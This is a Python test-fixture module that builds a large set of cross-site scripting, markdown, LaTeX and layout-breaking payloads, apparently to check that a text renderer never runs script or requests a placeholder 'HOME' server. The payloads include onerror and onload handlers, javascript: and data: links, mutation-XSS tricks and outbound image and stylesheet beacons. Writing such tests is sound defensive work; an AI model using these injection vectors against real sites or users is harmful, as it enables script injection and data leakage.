"""What a text may hold to run a script or to phone home (groups C1 to C5 of the attacks)."""

import html
from collections.abc import Iterator

RUN = "window.ran=(window.ran||0)+1"
# HOME stands for the address of a server that should never be asked.
SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt src=HOME/x.js>{RUN}</sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f'<img src="HOME/p.png" onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        f"<img title='--&gt;&lt;img src onerror={RUN}&gt;'>"
    ),
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<form><button formaction='javascript:{RUN}'>x</button></form>",
    "<style>@import 'HOME/a.css';</style><p style='background:url(HOME/b.png)'>x</p>",
    "<link rel=stylesheet href=HOME/c.css><link rel=prefetch href=HOME/d>",
    "<base href=HOME/><meta http-equiv=refresh content='0;url=HOME/e'>",
    "<video poster=HOME/f.png src=HOME/g.mp4></video><img srcset='HOME/h.png 2x'>",
    f"<p id=getElementById name=body>{'<div>' * 90}<img src=x onerror={RUN}>{'</div>' * 90}",
    f"<a href=javascript:{RUN}>press</a>",
    f"<!--<img src='--><img src=x onerror={RUN}>'",
    f"<xmp><img src=x onerror={RUN}></xmp>",
]
MARKDOWN = [
    f"[press](javascript:{RUN})",
    f"[press](java\nscript:{RUN})",
    f"[press](&#106;avascript:{RUN})",
    f"[press](data:text/html,<script>{RUN}</script>)",
    f"[press](vbscript:{RUN})",
    "[press](//HOST/evil)",
    f"<javascript:{RUN}>",
    "![x](HOME/p.png)",
    f"![x](x' onerror='{RUN})",
    f'![x](x "title\' onerror={RUN}")',
    "![x][r]\n\n[r]: HOME/q.png",
    f"[x]: javascript:{RUN}\n\n[x]",
    f"`<img src=x onerror={RUN}>`",
    f"| a | <img src=x onerror={RUN}> |\n|---|---|\n| b | [x](javascript:{RUN}) |",
    f"```mermaid\ngraph TD; A[<img src=x onerror={RUN}>]\n```",
    f"```html\n<script>{RUN}</script>\n```",
    f'```"onmouseover={RUN}\nx\n```',
]
MATH = [
    rf"$\href{{javascript:{RUN}}}{{x}}$",
    rf"$\htmlData{{x=y' onclick={RUN}}}{{x}}$",
    r"$\includegraphics{HOME/r.png}$",
    r"$\def\a{\a\a}\a$",
    rf"$\undefined<img src=x onerror={RUN}>$",
    rf"$$\frac{{<script>{RUN}</script>}}$$",
    r"$\unicode{x202e}" + "₀" * 200 + "$",
]
LAYOUT = [
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>covers</div>",
    "\u202eevil\u202c \u2066x\u2069 " + "Z\u0351\u036b\u0343\u036a\u0302" * 40,
    ">" * 60 + " deep",
    "*" * 400,
    "W" * 3000,
]


def payloads(home: str) -> Iterator[str]:
    """Every attack, bare and wrapped in what markdown and HTML may hide it in.

    Args:
        home: The address that must not be asked, as http://host:port.
    """
    host = home.partition("//")[2]
    for one in [*SCRIPTS, *MARKDOWN, *MATH, *LAYOUT]:
        attack = one.replace("HOME", home).replace("HOST", host)
        yield attack
        if "\n" not in attack:
            yield f"# {attack}"
            yield f"> - {attack}"
            yield f"[{attack}]({attack})"
            yield f"![{attack}]({attack})"
            yield html.escape(attack)


def texts(home: str) -> tuple[str, str]:
    """All of them, each a paragraph of one of two texts; those that open a fence last.

    One text of them all would be longer than what is rendered of a text at first: its end would
    never have been markup.
    """
    every = list(payloads(home))
    one, other = (
        "\n\n".join(sorted(half, key=lambda p: "```" in p)) for half in (every[::2], every[1::2])
    )
    return one, other
